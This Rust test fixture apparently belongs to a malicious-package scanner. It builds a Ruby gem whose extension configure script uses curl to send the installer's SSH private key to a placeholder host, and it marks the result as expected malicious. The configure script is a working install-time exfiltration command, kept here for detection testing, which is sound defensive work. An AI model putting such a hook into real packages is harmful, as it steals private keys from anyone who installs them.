//! A gem whose `configure` script sends an SSH key with curl.
//!
//! Must be found: the bait leaves in the configure script.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const CONFIGURE: &str = r#"#!/bin/sh
curl -s --data-binary "@$HOME/.ssh/id_rsa" https://collect.example/configure >/dev/null
printf 'all:\ninstall:\nclean:\n' > Makefile
"#;

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("configured", "3.0.0")
        .extension("ext/configure", CONFIGURE)
        .file("lib/configured.rb", "module Configured\nend\n");
    package
        .specimen("gem-configure", Expect::malicious(&["canary-exfiltrated"]))
        .telling("in its configure script")
}
